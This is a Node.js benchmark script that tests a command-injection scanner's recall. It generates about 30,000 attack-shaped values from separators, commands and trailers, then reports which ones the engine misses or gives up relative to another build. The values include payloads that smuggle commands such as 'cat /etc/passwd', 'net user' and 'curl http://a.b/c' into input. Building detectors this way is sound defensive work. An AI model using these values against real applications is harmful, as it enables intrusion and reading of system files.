// A recall probe for command injection: attack-shaped values built from our own parts, not from a
// public payload list. Two grids:
//   leads x separators x commands x trailers: 11 x 14 x 24 x 8 = 29,568 values ("x'", "127.0.0.1 ",
//     "a)" before ";", " | ", "&&", a line break, "%0a", a backtick, "$(" ...; "id", "ls -la",
//     "dir c:\\", "curl http://a.b/c" ...; nothing, ";", "#", " #", ")" ... after);
//   wrappings x commands: 31 x 14 = 434 values (";id;", "'\\nid\\n'", "a);id|", "$(id)" ...).
// A value counts as found when scan() reports anything for it. Nothing is asserted.
//
//   node bench/command-grid.mjs [bindings] [--list] [--against <other bindings>]
//
// --list prints every missed value; --against prints the values the other build finds and this
// one misses (the check for a narrowing change: which attacks it gives up).

import { parseArgs } from 'node:util';
import { fileURLToPath, pathToFileURL } from 'node:url';
import path from 'node:path';

const { values: opts, positionals } = parseArgs({
  allowPositionals: true,
  options: { list: { type: 'boolean', default: false }, against: { type: 'string' } },
});
const load = async (p) => new (await import(pathToFileURL(path.resolve(p)).href)).Engine();
const here = path.dirname(fileURLToPath(import.meta.url));
const bindings = positionals[0] ?? path.join(here, '../dist/bindings/index.js');
const engine = await load(bindings);
const other = opts.against ? await load(opts.against) : null;

const LEADS = ['', '1', '127.0.0.1', 'x', 'test', "'", '"', "x'", 'x"', 'a)', '127.0.0.1 '];
const SEPS = [';', '; ', '|', ' | ', '||', ' || ', '&', ' & ', '&&', ' && ', '\n', '%0a', '`', '$('];
const COMMANDS = ['id', 'whoami', 'ls', 'ls -la', 'uname -a', 'pwd', 'ps aux', 'netstat -an', 'ifconfig',
  'cat /etc/passwd', 'sleep 5', 'ping -c 3 127.0.0.1', 'dir', 'dir c:\\', 'type c:\\boot.ini', 'ipconfig', 'net user',
  'echo test', 'nslookup example.com', 'hostname', 'systeminfo', 'ver', 'curl http://a.b/c', 'wget http://a.b/c'];
const TRAILERS = ['', ';', '|', '#', ' #', '&', '`', ')'];

const PLAIN = ['/bin/ls -al', '/usr/bin/id', '/bin/cat /etc/passwd', 'ls -al', 'id', 'cat /etc/passwd', 'sleep 5',
  'whoami', 'uname -a', 'netstat -an', 'ping -c 5 127.0.0.1', 'echo 1', 'ls', 'pwd'];
const WRAPS = [(c) => `;${c}`, (c) => `;${c};`, (c) => `|${c}`, (c) => `|${c};`, (c) => `||${c}`, (c) => `&${c}`,
  (c) => `&&${c}`, (c) => `\\n${c}\\n`, (c) => `'\\n${c}\\n'`, (c) => `"\\n${c}\\n"`, (c) => `\n${c}\n`, (c) => `\`${c}\``,
  (c) => `$(${c})`, (c) => `a);${c}`, (c) => `a;${c}|`, (c) => `a)|${c}`, (c) => `a);${c};`, (c) => `a);${c}|`,
  (c) => `a;${c}`, (c) => `a|${c}`, (c) => `a ${c}`, (c) => `'${c}'`, (c) => `';${c};'`, (c) => `";${c};"`,
  (c) => `<${c}`, (c) => `>${c}`, (c) => `%0a${c}`, (c) => `%0a${c}%0a`, (c) => `1;${c}`, (c) => `x&&${c}`, (c) => `x||${c}`];

const found = (e, v) => e.scan(v).length > 0;

function run(name, rows, keys) {
  let miss = 0;
  const by = keys.map(() => new Map());
  const missed = [];
  const given = [];
  for (const row of rows) {
    const ok = found(engine, row.value);
    if (!ok) {
      miss++;
      missed.push(row.value);
      keys.forEach((k, i) => by[i].set(row[k], (by[i].get(row[k]) ?? 0) + 1));
      if (other && found(other, row.value)) given.push(row.value);
    }
  }
  console.log(`\n${name}: ${miss} of ${rows.length} missed (${(100 * miss / rows.length).toFixed(1)}%)`);
  keys.forEach((k, i) => {
    const top = [...by[i]].sort((a, b) => b[1] - a[1]).map(([v, n]) => `${JSON.stringify(v)} ${n}`);
    if (top.length) console.log(`  misses by ${k}: ${top.join(', ')}`);
  });
  if (opts.list) for (const v of missed) console.log('  ' + JSON.stringify(v));
  if (other) {
    console.log(`  found by ${opts.against} and missed here: ${given.length}`);
    for (const v of given) console.log('  ' + JSON.stringify(v));
  }
}

const grid = [];
for (const lead of LEADS) for (const sep of SEPS) for (const command of COMMANDS) for (const trailer of TRAILERS) {
  const close = sep === '`' ? '`' : sep === '$(' ? ')' : '';
  grid.push({ lead, sep, command, trailer, value: lead + sep + command + close + trailer });
}
const wrapped = [];
WRAPS.forEach((w, i) => { for (const command of PLAIN) wrapped.push({ wrapping: w('C'), command, value: w(command), i }); });

console.log(`bindings: ${bindings}`);
run('leads x separators x commands x trailers', grid, ['sep', 'lead', 'command', 'trailer']);
run('wrappings x commands', wrapped, ['wrapping', 'command']);
